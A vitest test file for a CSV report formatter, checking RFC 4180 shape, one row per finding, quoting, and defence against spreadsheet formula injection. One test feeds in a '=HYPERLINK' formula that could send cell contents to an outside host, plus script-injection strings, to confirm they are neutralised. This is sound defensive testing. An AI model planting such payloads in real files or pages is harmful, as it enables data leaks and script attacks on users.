/** The CSV report: RFC 4180, one row per finding, every document present, safe to open in a spreadsheet. */
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildReport } from '../../src/index.js';
import { CSV_COLUMNS, csvField, formatCsv } from '../../src/format/csv.js';
import type { CheckReport } from '../../src/types.js';
import { HOSTILE_PATH, SAMPLE_FIXTURES, fileOf, sampleReport } from './helpers/sample-report.js';

const HEADER = 'path,kind,score,pass,ruleId,severity,line,column,endLine,endColumn,paragraph,part,excerpt,message,suggestion,standard';

/** Strict RFC 4180 reading: CRLF records only, no stray quotes, every record as wide as the header. */
function parseCsv(csv: string): Record<string, string>[] {
  return parse(csv, { columns: true, record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false, skip_empty_lines: false, bom: false });
}

let report: CheckReport;
let csv: string;
let rows: Record<string, string>[];
const rowsFor = (path: string) => rows.filter((r) => r.path === path);

beforeAll(async () => {
  report = await sampleReport();
  csv = formatCsv(report);
  rows = parseCsv(csv);
});

describe('shape', () => {
  it('starts with the documented header and ends every record with CRLF', () => {
    expect(CSV_COLUMNS.join(',')).toBe(HEADER);
    expect(csv.startsWith(`${HEADER}\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // No field of this run holds a line end, so every LF is the end of a record.
    expect(csv.match(/\n/g)!.length).toBe(csv.match(/\r\n/g)!.length);
    expect(csv.match(/\r\n/g)).toHaveLength(rows.length + 1);
  });

  it('has a row per finding, and one for each document with none or that could not be read', () => {
    const expected = report.files.reduce((n, f) => n + Math.max(1, f.findings.length), 0);
    expect(rows).toHaveLength(expected);
    expect([...new Set(rows.map((r) => r.path))]).toEqual(report.files.map((f) => f.path));
    expect(rowsFor(SAMPLE_FIXTURES.wordy)).toHaveLength(fileOf(report, SAMPLE_FIXTURES.wordy).findings.length);
  });
});

describe('rows', () => {
  it('gives a finding with its file score, place, excerpt, message, suggestion and standard', () => {
    const file = fileOf(report, SAMPLE_FIXTURES.patel);
    const finding = file.findings[0]!;
    expect(rowsFor(SAMPLE_FIXTURES.patel)).toEqual([
      {
        path: SAMPLE_FIXTURES.patel,
        kind: 'letter',
        score: String(file.score),
        pass: 'false',
        ruleId: 'courtesy/signoff-mismatch',
        severity: 'error',
        line: String(finding.line),
        column: '1',
        endLine: String(finding.line),
        endColumn: '17',
        paragraph: '',
        part: '',
        excerpt: 'Yours faithfully',
        message: '“Dear Mrs Patel” needs “Yours sincerely”, not “Yours faithfully”.',
        suggestion: 'Yours sincerely',
        standard: 'Shepway 11',
      },
    ]);
    // The message holds a comma, so it is quoted in the file.
    expect(csv).toContain(',"“Dear Mrs Patel” needs “Yours sincerely”, not “Yours faithfully”.",');
  });

  it('gives the paragraph and part of a .docx finding', () => {
    const finding = fileOf(report, SAMPLE_FIXTURES.docx).findings[0]!;
    expect(rowsFor(SAMPLE_FIXTURES.docx)[0]).toMatchObject({ paragraph: String(finding.paragraph), part: 'body', excerpt: 'Yours faithfully' });
  });

  it('lists a clean letter once, with its score and no rule', () => {
    expect(rowsFor(SAMPLE_FIXTURES.clean)).toEqual([
      expect.objectContaining({ kind: 'letter', score: '100', pass: 'true', ruleId: '', severity: '', message: '', excerpt: '' }),
    ]);
  });

  it('lists an unreadable file once, with the reason as the message and no score', () => {
    const reason = fileOf(report, SAMPLE_FIXTURES.unreadable).error!.message;
    expect(rowsFor(SAMPLE_FIXTURES.unreadable)).toEqual([
      expect.objectContaining({ kind: '', score: '', pass: 'false', ruleId: '', line: '', message: reason }),
    ]);
    expect(reason).toMatch(/password-protected/);
  });

  it('keeps the wordy letter’s findings in order with their severities', () => {
    const file = fileOf(report, SAMPLE_FIXTURES.wordy);
    expect(rowsFor(SAMPLE_FIXTURES.wordy).map((r) => [r.ruleId, r.severity, r.line, r.column])).toEqual(
      file.findings.map((f) => [f.ruleId, f.severity, String(f.line), String(f.column)]),
    );
  });
});

describe('quoting and formula injection', () => {
  it('reads back a path with a comma, an apostrophe, an ampersand and angle brackets', () => {
    expect(rowsFor(HOSTILE_PATH).length).toBeGreaterThan(0);
    expect(csv).toContain(`\r\n"${HOSTILE_PATH}",letter,`);
  });

  it('keeps a letter quoting "=HYPERLINK(…)" from running as a formula, and its text otherwise intact', () => {
    const finding = fileOf(report, HOSTILE_PATH).findings.find((f) => f.excerpt.startsWith('=HYPERLINK('))!;
    expect(finding).toBeDefined();
    const row = rowsFor(HOSTILE_PATH).find((r) => r.ruleId === finding.ruleId && r.line === String(finding.line))!;
    expect(row.excerpt).toBe(`'${finding.excerpt}`);
    expect(row.excerpt).toContain('<script>alert(1)</script> "><img src=x onerror=alert(2)>');
    expect(row.excerpt).toContain('& \u0001 <script>');
    // In the file: quoted because of its quotes and comma, quotes doubled.
    expect(csv).toContain(`"'=HYPERLINK(""https://refund.example/?id=""&A1,""Refund"")`);
    for (const r of rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('prefixes every field a spreadsheet would run as a formula, and nothing else', () => {
    expect(csvField('=SUM(A1:A9)')).toBe("'=SUM(A1:A9)");
    expect(csvField('+44 1632 960 123')).toBe("'+44 1632 960 123");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(1)')).toBe("'@SUM(1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvField('Dear Mrs Patel')).toBe('Dear Mrs Patel');
    expect(csvField('Mrs Patel-Jones')).toBe('Mrs Patel-Jones');
    expect(csvField(17)).toBe('17');
    expect(csvField(false)).toBe('false');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('quotes a field holding a line end and reads it back whole', () => {
    const file = structuredClone(fileOf(report, SAMPLE_FIXTURES.patel));
    file.findings[0]!.excerpt = 'Yours faithfully,\r\nSam Jones';
    file.findings[0]!.message = 'Two lines:\nthe second "quoted"';
    const text = formatCsv(buildReport([file]));
    expect(text).toContain('"Yours faithfully,\r\nSam Jones"');
    expect(text).toContain('"Two lines:\nthe second ""quoted"""');
    const [row] = parseCsv(text);
    expect(row).toMatchObject({ excerpt: 'Yours faithfully,\r\nSam Jones', message: 'Two lines:\nthe second "quoted"' });
  });

  it('starts with a byte order mark for Excel only when asked', () => {
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    const withBom = formatCsv(report, { excelBom: true });
    expect(withBom.charCodeAt(0)).toBe(0xfeff);
    expect(parse(withBom, { columns: true, bom: true, record_delimiter: '\r\n' })).toEqual(rows);
  });
});
